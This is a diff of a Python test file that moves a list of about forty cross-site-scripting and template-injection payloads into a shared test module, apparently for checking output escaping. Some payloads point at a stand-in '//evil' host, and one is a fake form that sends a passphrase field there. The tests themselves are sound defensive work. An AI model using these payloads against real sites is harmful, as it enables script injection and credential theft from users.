@@ -8,49 +8,8 @@ import pytest
 
 from app.records import Aside, Document, Entry, Item, Journal, Pass, db
 from app.records.db import now
+from tests.hostile import HOSTILE
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil></SCRIPT>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=`x` onerror=alert(1)>",
-    '<img """><script>alert(1)</script>">',
-    '<!--<img src="--><img src=x onerror=alert(1)//">',
-    "'><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    '" autofocus onfocus=alert(1) x="',
-    "' onmouseover='alert(1)",
-    "` onmouseover=alert(1) `",
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='data:text/html,x'>x</a>",
-    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
-    "</blockquote><iframe src=//evil>",
-    "</dd></dl></main><h1>Sign in again</h1>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "<math><mtext></p><style><img src=x onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=//evil>",
-    "<form action=//evil><input name=passphrase>",
-    "<button formaction=//evil>Take it in</button>",
-    "<base href=//evil>",
-    "<link rel=stylesheet href=//evil>",
-    "<meta http-equiv=refresh content=0;url=//evil>",
-    "<style>*{background:url(//evil)}</style>",
-    "<template><script>alert(1)</script></template>",
-    "<details open ontoggle=alert(1)>",
-    "&lt;script&gt;&#60;b&#62;&amp;lt;",
-    "]]><script>alert(1)</script>",
-    "{{ cycler.__init__.__globals__ }}{% raw %}<b>",
-]
 STROKES = '{"v":1,"w":4096,"h":3072,"strokes":[{"c":"ink","s":40,"k":"pen","t":0,"d":[%s]}]}'
 
 
